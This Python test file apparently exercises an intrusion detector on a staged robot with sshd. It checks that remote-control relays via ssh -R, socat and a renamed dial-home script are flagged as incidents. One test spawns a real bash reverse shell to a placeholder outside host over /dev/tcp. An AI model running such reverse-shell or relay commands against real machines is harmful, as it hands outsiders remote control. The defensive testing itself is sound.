"""Somebody logs in to a real sshd, through relays and straight: what `observe | judge -` says of it."""

import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.system.judge.ssh_stage import DESK, OUTSIDE, ROBOT_LAN, SshStage, missing_programs, type_until

pytestmark = [
    pytest.mark.needs_root("namespaces, an sshd and kernel tracepoints"),
    pytest.mark.skipif(bool(missing_programs()), reason=f"not installed: {', '.join(missing_programs())}"),
]
CERTAIN_WITHIN_S = 40.0
HERE = Path(__file__).parent


@pytest.fixture
def stage(tmp_path: Path) -> Iterator[SshStage]:
    """A robot with sshd, and an outside."""
    with SshStage(tmp_path) as stage:
        stage.sshd(stage.on_robot, "0.0.0.0")
        yield stage


def outside_pid_address(incident: dict[str, Any]) -> tuple[str | None, int | None, str | None, str | None]:
    """Outside address, relay's pid, service, account of an incident's origin."""
    hop = {one["hop"]: one for one in incident["origin"]}
    return (
        hop.get("address", {}).get("address"),
        hop.get("process", {}).get("pid"),
        hop.get("service", {}).get("name"),
        hop.get("user", {}).get("user"),
    )


def about(incidents: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The incidents of connections; other programs of a busy machine may match rules meanwhile, and rules only."""
    kinds = ("relay", "remote-control", "tunnel")
    behaved = [one for one in incidents if any(rule.startswith("behaviour: ") for rule in one["rules"])]
    return [incident for incident in behaved if incident["kind"] in kinds]


def login_through(
    stage: SshStage, relay: "subprocess.Popen[Any]", watch: Any, *ssh: str, way: str = "an unnamed relay"
) -> None:
    """Log in from outside and type until relay and account are told; then the one incident must name it all."""
    shell = stage.outside(*stage.ssh(*ssh), stdin=subprocess.PIPE)
    # The relay may be certain before sshd's session is told: the log gets two seconds to say it first.
    told = ('"verdict":"relay"', '"kind":"login.start"')
    type_until(shell, lambda: all(map(watch.saw, told)), CERTAIN_WITHIN_S)
    (incident,) = about(watch.end())
    assert outside_pid_address(incident) == (OUTSIDE, relay.pid, "ssh", "pi"), incident
    assert (incident["kind"], incident["level"], incident["surface"]) == ("remote-control", "critical", "ssh")
    assert incident["sessions"][0]["user"] == "pi"
    assert incident["evidence"]
    assert f"through {way}" in incident["title"]


def test_a_login_through_ssh_r_names_relay_address_and_account(stage: SshStage) -> None:
    """The oldest of the tunnels, and no attacker's tool at all: its bytes tell, and its arguments name it."""
    stage.sshd(stage.outside, OUTSIDE)
    watch = stage.watch()
    relay = stage.on_robot(
        *stage.ssh("-N", "-o", "ExitOnForwardFailure=yes", "-R", "2222:127.0.0.1:22", f"root@{OUTSIDE}")
    )
    stage.wait_outside(2222)
    login_through(stage, relay, watch, "-tt", "-p", "2222", "pi@127.0.0.1", way="ssh -R")


def pair_of_ports(stage: SshStage) -> None:
    """Outside, whatever dials in at 5000 is handed to whoever connects to 6000; 6000 is there when somebody dialled."""
    stage.outside("socat", "TCP-LISTEN:5000,reuseaddr", "TCP-LISTEN:6000,reuseaddr,bind=127.0.0.1")
    stage.wait_outside(5000)


def test_a_login_through_socat_names_relay_address_and_account(stage: SshStage) -> None:
    """A stock tool that opens both sides at once."""
    pair_of_ports(stage)
    watch = stage.watch()
    relay = stage.on_robot("socat", f"TCP:{OUTSIDE}:5000", "TCP:127.0.0.1:22")
    stage.wait_outside(6000)
    login_through(stage, relay, watch, "-tt", "-p", "6000", "pi@127.0.0.1")


def test_a_login_through_a_program_that_no_rule_names_is_found_by_its_behaviour(
    stage: SshStage, tmp_path: Path
) -> None:
    """The tunnel of tomorrow: no name, no hash, no known host."""
    pair_of_ports(stage)
    script = shutil.copy(HERE / "dial_home.py", tmp_path / "camera_helper.py")
    watch = stage.watch()
    relay = stage.on_robot(sys.executable, "-S", str(script), OUTSIDE, "5000", "22")
    stage.wait_outside(6000)
    login_through(stage, relay, watch, "-tt", "-p", "6000", "pi@127.0.0.1")


def test_the_same_login_straight_from_the_local_network_is_no_incident(stage: SshStage) -> None:
    """A colleague at the bench types the same commands."""
    watch = stage.watch()
    shell = stage.outside(*stage.ssh("-tt", "-b", DESK, f"pi@{ROBOT_LAN}"), stdin=subprocess.PIPE)
    stage.until(lambda: watch.saw(f'"remote":["{DESK}"'), "the connection is seen")
    type_until(shell, lambda: False, 5.0)
    assert about(watch.end()) == []
    assert watch.saw('"user":"pi"'), "the login itself was seen"


def test_a_real_reverse_shell_is_one_incident_with_its_far_end(stage: SshStage) -> None:
    """No login, no ssh: bash itself dials out, and somebody types there."""
    far_end = stage.outside("socat", "TCP-LISTEN:4444,reuseaddr", "STDIO", stdin=subprocess.PIPE)
    stage.wait_outside(4444)
    watch = stage.watch()
    shell = stage.on_robot("bash", "-c", f"bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1")
    stage.until(lambda: watch.saw(f'"remote":["{OUTSIDE}",4444]'), "the connection is seen")
    assert far_end.stdin is not None
    far_end.stdin.write(b"id\nexit\nexit\n")
    far_end.stdin.close()
    shell.wait(20)
    (incident,) = [one for one in watch.end() if one["surface"] == "shell"]
    assert (incident["kind"], incident["level"]) == ("remote-control", "critical")
    assert incident["origin"][0] == {"hop": "address", "address": OUTSIDE, "port": 4444}
    assert {"T1059.004"} <= set(incident["attack"])


def test_the_vendors_tunnel_is_named_when_its_program_starts(stage: SshStage, tmp_path: Path) -> None:
    """A program of that name and nothing else of it: the rule reads what the kernel told of a real start."""
    program = shutil.copy("/bin/sleep", tmp_path / "csclient")
    watch = stage.watch()
    stage.on_robot(str(program), "20")
    stage.until(lambda: watch.saw(f'"exe":"{program}"'), "the start is seen")
    (incident,) = [one for one in watch.end() if one["kind"] == "tunnel"]
    assert "CloudSail" in incident["title"]
    assert incident["level"] == "high"


def test_a_port_that_a_visitor_forwards_is_noted(stage: SshStage) -> None:
    """`ssh -R` towards the robot: sshd opens a listener for a colleague at the bench."""
    watch = stage.watch()
    stage.outside(*stage.ssh("-N", "-b", DESK, "-R", "9009:127.0.0.1:1", f"pi@{ROBOT_LAN}"))
    stage.until(lambda: watch.saw('["127.0.0.1",9009]'), "the listener is seen")
    (incident,) = about(watch.end())
    assert (incident["kind"], incident["level"]) == ("tunnel", "low")
    assert "9009" in incident["title"]
    assert incident["sessions"][0]["origin"][0]["address"] == DESK
